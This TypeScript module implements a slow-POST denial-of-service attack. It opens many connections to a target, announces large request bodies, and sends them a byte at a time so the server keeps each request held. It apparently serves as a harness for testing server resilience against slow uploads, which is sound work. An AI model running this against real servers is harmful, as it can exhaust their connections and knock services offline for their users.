import type { Socket } from 'node:net';
import { openSocket, statusOf, type Target } from './target.ts';

export interface SlowUploads {
  readonly path: string;
  readonly contentType: string;
  readonly count: number;
  /** How long to wait before the next byte of each body. */
  readonly byteEveryMs: number;
}

export interface RunningUploads {
  /** Connections that are neither cut nor answered. */
  open(): number;
  /** The statuses of those that were answered. */
  statuses(): number[];
  stop(): void;
}

/** Bodies that are announced and come byte by byte, to hold what the server holds for a request. */
export async function startSlowUploads(
  target: Target,
  { path, contentType, count, byteEveryMs }: SlowUploads,
): Promise<RunningUploads> {
  const head = [
    `POST ${path} HTTP/1.1`,
    'host: attack',
    `content-type: ${contentType}`,
    'content-length: 100000',
    '\r\n',
  ].join('\r\n');
  const open = new Set<Socket>();
  const statuses: number[] = [];
  for (let made = 0; made < count; made += 1) {
    const socket = await openSocket(target);
    open.add(socket);
    socket.once('data', (answer) => {
      statuses.push(statusOf(answer));
      open.delete(socket);
    });
    socket.once('close', () => open.delete(socket));
    socket.write(head);
  }
  const sending = setInterval(() => open.forEach((socket) => socket.write(' ')), byteEveryMs);
  return {
    open: () => open.size,
    statuses: () => [...statuses],
    stop: () => {
      clearInterval(sending);
      for (const socket of open) socket.destroy();
    },
  };
}
